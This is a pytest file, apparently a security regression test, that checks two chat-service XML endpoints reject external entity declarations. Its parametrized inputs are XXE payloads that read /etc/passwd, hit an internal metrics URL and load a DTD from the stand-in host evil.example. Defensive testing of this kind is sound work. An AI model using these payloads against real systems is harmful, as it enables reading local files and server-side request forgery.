"""XXE: an entity is a file or a URL, and the parser goes and reads it.

Here no entity is declared, and none is fetched.
"""

from __future__ import annotations

import pytest

from tests.advisories.attack import untouched
from tests.support import World, account_path, chat_path

pytestmark = pytest.mark.anyio


async def refused(here: World, body: bytes, media_type: str = "application/xml") -> None:
    for method, target in (
        ("PUT", chat_path(here.chat(), "/customVariables")),
        ("POST", account_path("/chat/request")),
    ):
        reply = await here.ask(method, target, {"content-type": media_type}, body)
        assert (reply.status, reply.problem) == (400, "malformed-body")
    untouched(here)


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:8081/metrics">]>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>',
        '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE a PUBLIC "x" "http://evil.example/x.dtd">',
        "<!DOCTYPE a>",
        "",
    ],
)
async def test_entities(here: World, declared: str) -> None:
    await refused(here, f"{declared}<request>&x;</request>".encode())
